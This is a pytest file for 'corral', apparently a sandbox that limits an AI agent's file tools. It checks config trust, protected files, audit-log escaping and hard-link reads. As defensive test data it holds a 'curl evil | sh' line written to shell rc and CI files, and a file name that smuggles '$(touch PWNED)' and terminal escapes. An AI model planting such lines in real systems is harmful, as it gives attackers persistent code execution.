"""The trust boundary end to end, on the real kernel: a workspace's corral.toml
cannot open the sandbox up, no tool writes what configures or records corral,
files that run code stay unwritten, the audit log cannot drive a shell, rules by
kind of access, one decision per file, and hard-linked reads."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from corral import Sandbox
from corral.config import ConfigError, SandboxOptions
from corral.policy import Policy, RootSpec, Rule
from tests.helpers.attack_config import attack
from tests.helpers.calls import err, ok
from tests.helpers.cli_helpers import run

KEY = "-----BEGIN OPENSSH PRIVATE KEY----- not-a-real-key"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A home directory with a key and a shell rc file, holding the workspace `proj`."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY)
    (home / ".bashrc").write_text("# rc\n")
    (home / "proj").mkdir()
    (home / "proj" / "hello.txt").write_text("hello\n")
    return home


def assert_refused(code: int, out: str, error: str, config: Path) -> None:
    assert code == 2 and out == "", (code, out, error)
    (line,) = error.strip().splitlines()
    assert line.startswith(f"corral: error: {config}: a corral.toml inside the workspace may "
                           "only narrow"), line
    for key in ("[workspace] allowed_paths", "[tools] delete_file", "'block-ssh'", "[audit]"):
        assert key in line, (key, line)


@pytest.mark.parametrize("argv", [
    ["call", "read_file"], ["call", "delete_file"], ["tools"], ["doctor"],
])
def test_a_workspace_config_cannot_open_the_sandbox(
    capsys: pytest.CaptureFixture[str], home: Path, argv: list[str]
) -> None:
    ws = home / "proj"
    (ws / "corral.toml").write_text(attack(home))
    arguments = {"call": [json.dumps({"path": str(home / ".ssh" / "id_rsa")})]}.get(argv[0], [])
    code, out, error = run(capsys, *argv, *arguments, "--workspace", str(ws))
    assert_refused(code, out, error, ws / "corral.toml")
    assert KEY not in out
    assert (home / ".bashrc").read_text() == "# rc\n"
    assert (home / ".ssh" / "id_rsa").exists()


@pytest.mark.parametrize("mode", [["--jsonl"], []])
def test_serve_refuses_before_speaking(home: Path, mode: list[str]) -> None:
    ws = home / "proj"
    (ws / "corral.toml").write_text(attack(home))
    if mode:
        line = {"id": 1, "tool": "read_file", "arguments": {"path": str(home / ".ssh/id_rsa")}}
    else:
        line = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {},
            "clientInfo": {"name": "t", "version": "1"}}}
    done = subprocess.run(
        ["corral", "serve", *mode], input=json.dumps(line) + "\n", cwd=ws,
        capture_output=True, text=True, timeout=60, check=False,
    )
    assert_refused(done.returncode, done.stdout, done.stderr, ws / "corral.toml")
    assert (home / ".bashrc").read_text() == "# rc\n"


def test_a_workspace_config_narrows(capsys: pytest.CaptureFixture[str], home: Path) -> None:
    ws = home / "proj"
    (ws / "corral.toml").write_text(
        '[tools]\nwrite_file = "deny"\n[[rules]]\nname = "no-hello"\naction = "deny"\n'
        'access = ["read"]\npaths = ["hello.txt"]\n'
    )
    code, out, _ = run(capsys, "call", "read_file", '{"path": "hello.txt"}', "--workspace", str(ws))
    assert code == 1 and json.loads(out)["error"]["rule"] == "no-hello"
    code, out, _ = run(capsys, "tools", "--workspace", str(ws))
    assert "write_file" not in {tool["name"] for tool in json.loads(out)}
    (ws / "corral.toml").write_text(
        '[workspace]\nread_only = true\n[[rules]]\nname = "no-hello"\naction = "deny"\n'
        'access = ["read"]\npaths = ["hello.txt"]\n'
    )
    code, out, _ = run(capsys, "call", "write_file", '{"path": "n.txt", "content": "x"}',
                       "--workspace", str(ws))
    assert code == 1 and json.loads(out)["error"]["code"] == "tool_disabled"
    assert not (ws / "n.txt").exists()
    code, out, _ = run(capsys, "doctor", "--workspace", str(ws))
    assert f"narrowed by: {ws / 'corral.toml'} (the workspace's own, untrusted)" in out
    assert "  workspace rule    no-hello: deny for read hello.txt" in out.splitlines()


def test_the_operator_config_is_trusted_and_the_workspace_narrows_it(
    capsys: pytest.CaptureFixture[str], home: Path, tmp_path: Path
) -> None:
    ws = home / "proj"
    operator = tmp_path / "ops.toml"
    operator.write_text('[tools]\ndelete_file = "allow"\n')
    (ws / "gone.txt").write_text("x")
    delete = json.dumps({"path": "gone.txt"})
    code, _, _ = run(capsys, "call", "delete_file", delete, "--workspace", str(ws),
                     "--config", str(operator))
    assert code == 0 and not (ws / "gone.txt").exists()
    (ws / "corral.toml").write_text('[tools]\ndelete_file = "deny"\n')
    (ws / "gone.txt").write_text("x")
    code, out, _ = run(capsys, "call", "delete_file", delete, "--workspace", str(ws),
                       "--config", str(operator))
    assert code == 1 and json.loads(out)["error"]["code"] == "tool_disabled"
    # --config naming the workspace's own file: the operator chose it, so it is trusted.
    (ws / "corral.toml").write_text('[tools]\ndelete_file = "allow"\n')
    code, _, _ = run(capsys, "call", "delete_file", delete, "--config", str(ws / "corral.toml"))
    assert code == 0 and not (ws / "gone.txt").exists()


def test_the_user_config_is_the_operators_when_outside_the_roots(
    capsys: pytest.CaptureFixture[str], home: Path, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    ws = home / "proj"
    xdg = tmp_path / "xdg"
    (xdg / "corral").mkdir(parents=True)
    (xdg / "corral" / "corral.toml").write_text('[tools]\ngrep = "deny"\n')
    monkeypatch.setenv("XDG_CONFIG_HOME", str(xdg))
    code, out, _ = run(capsys, "tools", "--workspace", str(ws))
    assert code == 0 and "grep" not in {tool["name"] for tool in json.loads(out)}
    # The same file inside the workspace's root tree is the workspace's, not the operator's.
    monkeypatch.setenv("XDG_CONFIG_HOME", str(ws / ".config"))
    (ws / ".config" / "corral").mkdir(parents=True)
    (ws / ".config" / "corral" / "corral.toml").write_text('[tools]\ndelete_file = "allow"\n')
    code, out, error = run(capsys, "tools", "--workspace", str(ws))
    assert code == 2 and out == "" and "the user config lies inside the root" in error


# -- no tool writes what configures or records corral -------------------------------


WRITES: list[tuple[str, dict[str, Any]]] = [
    ("write_file", {"path": "sub/corral.toml", "content": "[tools]\n"}),
    ("write_file", {"path": "a/b/c/corral.toml", "content": "[tools]\n"}),
    ("edit_file", {"path": "sub/corral.toml", "old_string": "deny", "new_string": "allow"}),
    ("append_file", {"path": "sub/corral.toml", "content": "[audit]\n"}),
    ("copy_file", {"source": "hello.txt", "destination": "sub/corral.toml", "overwrite": True}),
    ("move_file", {"source": "hello.txt", "destination": "sub/corral.toml", "overwrite": True}),
    ("move_file", {"source": "sub/corral.toml", "destination": "sub/x.toml"}),
    ("move_file", {"source": "sub", "destination": "moved"}),
    ("delete_file", {"path": "sub/corral.toml"}),
    ("create_directory", {"path": "new/corral.toml"}),
]


@pytest.mark.parametrize(("tool", "arguments"), WRITES, ids=[w[0] for w in WRITES])
def test_no_tool_writes_a_corral_toml_anywhere(
    workspace: Path, tool: str, arguments: dict[str, Any]
) -> None:
    (workspace / "sub").mkdir()
    (workspace / "sub" / "corral.toml").write_text('[tools]\ngrep = "deny"\n')
    with Sandbox(workspace, policy=Policy({"delete_file": "allow"})) as sb:
        assert err(sb, tool, **arguments)["rule"] == "protect-corral-files"
    assert (workspace / "sub" / "corral.toml").read_text() == '[tools]\ngrep = "deny"\n'
    assert not (workspace / "a").exists() and not (workspace / "new").exists()


def test_protected_paths_hold_a_directory_and_cannot_be_unprotected(
    workspace: Path, tmp_path: Path
) -> None:
    store = workspace / "state"
    (store / "objects").mkdir(parents=True)
    (store / "objects" / "1").write_text("old")
    unlocked = Policy(rules=(Rule("protect-corral-files", "deny", ("*",), ("nothing",)),),
                      protected_paths=(str(store),))
    with Sandbox(workspace, policy=unlocked, audit=workspace / "audit.jsonl") as sb:
        for path in ("state/objects/1", "state/new", "audit.jsonl"):
            assert err(sb, "write_file", path=path, content="x")["rule"] == "protect-corral-files"
        ok(sb, "write_file", path="sub/corral.toml", content="")  # the operator's choice
    assert (store / "objects" / "1").read_text() == "old"


# -- files that run code ----------------------------------------------------------------


@pytest.mark.parametrize("path", [
    ".bashrc", ".zshrc", ".profile", ".gitconfig", ".envrc", ".aws/config",
    ".vscode/tasks.json", ".github/workflows/ci.yml", "sub/.bash_profile",
])
def test_files_that_run_code_are_not_written(workspace: Path, path: str) -> None:
    with Sandbox(workspace) as sb:
        error = err(sb, "write_file", path=path, content="curl evil | sh\n")
        assert (error["code"], error["rule"]) == ("path_denied", "block-autorun-writes")
        error = err(sb, "move_file", source="hello.txt", destination=path)
        assert error["rule"] == "block-autorun-writes"
    assert not (workspace / path).exists()
    operator = Policy(rules=(Rule("block-autorun-writes", "deny", ("*",), (".github/**",)),))
    with Sandbox(workspace, policy=operator) as sb:
        written = sb.call("write_file", {"path": path, "content": "echo ok\n"})
        assert written["ok"] is not path.startswith(".github/"), written


# -- the audit log cannot drive a shell or a terminal ----------------------------------


def test_audit_records_cannot_drive_a_shell(workspace: Path, tmp_path: Path) -> None:
    log = tmp_path / "audit.jsonl"
    hostile = "$(touch PWNED)`touch PWNED2`!!'\x1b]0;title\x07\x1b[2J\x7f\u202e.txt"
    (workspace / hostile).write_text("x")
    with Sandbox(workspace, audit=log) as sb:
        sb.call("read_file", {"path": hostile})
        sb.call("write_file", {"path": "x", "content": "y", "bogus": hostile})
        sb.call("move_file", {"source": hostile, "destination": hostile + "2"})
    raw = log.read_bytes()
    assert all(32 <= byte < 127 for byte in raw.replace(b"\n", b"")), raw
    for char in (b"$", b"`", b"!", b"'"):
        assert char not in raw
    records = [json.loads(line) for line in raw.decode().splitlines()]
    assert records[0]["path"] == hostile  # a JSON reader gets the path back unchanged
    assert records[2]["touched"][1]["path"] == hostile + "2"
    for shell in ("sh", "bash"):  # sourced by mistake, as the review did with .bashrc
        subprocess.run([shell, "-c", f". {log}"], cwd=tmp_path, capture_output=True,
                       timeout=30, check=False)
    assert not (tmp_path / "PWNED").exists() and not (tmp_path / "PWNED2").exists()


def test_audit_log_is_opened_without_following_a_symlink(workspace: Path, tmp_path: Path) -> None:
    from corral.audit import AuditError

    target = tmp_path / "home-bashrc"
    target.write_text("# rc\n")
    (tmp_path / "audit.jsonl").symlink_to(target)
    with pytest.raises(AuditError, match="cannot open audit log"):
        Sandbox(workspace, audit=tmp_path / "audit.jsonl")
    assert target.read_text() == "# rc\n"


# -- rules by kind of access --------------------------------------------------------------


def test_access_read_keeps_a_directory_secret_from_every_tool(
    workspace: Path, resolver: SandboxOptions
) -> None:
    (workspace / "secret").mkdir()
    (workspace / "secret" / "plan.txt").write_text("launch at dawn\n")
    policy = Policy(rules=(Rule("no-secret-reads", "deny", (), ("secret/**",), ("read",)),))
    with Sandbox(workspace, policy=policy, options=resolver) as sb:
        for tool, arguments in [
            ("read_file", {"path": "secret/plan.txt"}),
            ("read_multiple_files", None),
            ("edit_file", {"path": "secret/plan.txt", "old_string": "dawn", "new_string": "x",
                           "dry_run": True}),
            ("copy_file", {"source": "secret/plan.txt", "destination": "out.txt"}),
            ("move_file", {"source": "secret/plan.txt", "destination": "out.txt"}),
            ("move_file", {"source": "secret", "destination": "public"}),
            ("grep", {"pattern": "dawn", "path": "secret/plan.txt"}),
        ]:
            if arguments is None:
                (one,) = ok(sb, tool, paths=["secret/plan.txt"])["result"]["files"]
                assert one["error"]["rule"] == "no-secret-reads"
                continue
            result = sb.call(tool, arguments)
            assert result["error"]["rule"] == "no-secret-reads", (tool, result)
            assert "dawn" not in json.dumps(result)
        assert ok(sb, "grep", pattern="dawn")["result"]["matches"] == []
        # listing names and writing are other kinds of access: still allowed
        names = [e["name"] for e in ok(sb, "list_directory", path="secret")["result"]["entries"]]
        assert names == ["plan.txt"]
        ok(sb, "write_file", path="secret/new.txt", content="x")
    assert not (workspace / "out.txt").exists()
    assert (workspace / "secret" / "plan.txt").read_text() == "launch at dawn\n"


# -- one file, one decision: no root inside another -----------------------------------------


def test_a_root_inside_another_is_refused(workspace: Path) -> None:
    (workspace / "data").mkdir()
    (workspace / "data" / "x.csv").write_text("1\n")
    rule = Policy(rules=(Rule("no-data", "deny", ("*",), ("data/**",)),))
    for outer, inner in (("rw", "rw"), ("ro", "rw"), ("rw", "ro"), ("ro", "ro")):
        policy = Policy(rules=rule.rules, read_only=outer == "ro")
        with pytest.raises(ConfigError, match="lies inside root"):
            Sandbox(workspace, policy=policy,
                    allowed_paths=[RootSpec(str(workspace / "data"), inner)])
    with Sandbox(workspace, policy=rule) as sb:  # one spelling each way, one decision
        for path in ("data/x.csv", str(workspace / "data" / "x.csv")):
            assert err(sb, "read_file", path=path)["rule"] == "no-data"


# -- hard links ----------------------------------------------------------------------------


def test_hardlinks_deny_refuses_reads_of_multiply_linked_files(
    workspace: Path, resolver: SandboxOptions
) -> None:
    (workspace / ".env").write_text("API_KEY=abc123\n")
    os.link(workspace / ".env", workspace / "notes.txt")  # a denied file under another name
    with Sandbox(workspace, options=resolver) as sb:  # the default: allow
        assert ok(sb, "read_file", path="notes.txt")["result"]["content"] == "API_KEY=abc123\n"
    with Sandbox(workspace, policy=Policy(hardlinks="deny"), options=resolver) as sb:
        for tool, arguments in [
            ("read_file", {"path": "notes.txt"}),
            ("edit_file", {"path": "notes.txt", "old_string": "abc", "new_string": "x",
                           "dry_run": True}),
            ("copy_file", {"source": "notes.txt", "destination": "copy.txt"}),
            ("grep", {"pattern": "API", "path": "notes.txt"}),
        ]:
            error = err(sb, tool, **arguments)
            assert (error["code"], error["rule"]) == ("path_denied", "hardlinks"), (tool, error)
            assert "2 hard links" in error["message"] and "notes.txt" in error["message"]
        assert ok(sb, "grep", pattern="API")["result"]["matches"] == []
        assert ok(sb, "read_file", path="hello.txt")["ok"]
        ok(sb, "write_file", path="notes.txt", content="replaced\n")  # a new inode
        assert ok(sb, "read_file", path="notes.txt")["result"]["content"] == "replaced\n"
    assert (workspace / ".env").read_text() == "API_KEY=abc123\n"
    assert not (workspace / "copy.txt").exists()


def test_hardlinks_setting_reaches_the_worker_from_the_config(workspace: Path) -> None:
    (workspace / "a.txt").write_text("a\n")
    os.link(workspace / "a.txt", workspace / "b.txt")
    (workspace / "corral.toml").write_text('[policy]\nhardlinks = "deny"\n')
    done = subprocess.run(
        [sys.executable, "-m", "corral", "call", "read_file", '{"path": "a.txt"}'],
        cwd=workspace, capture_output=True, text=True, timeout=60, check=False,
    )
    assert done.returncode == 1 and json.loads(done.stdout)["error"]["rule"] == "hardlinks"
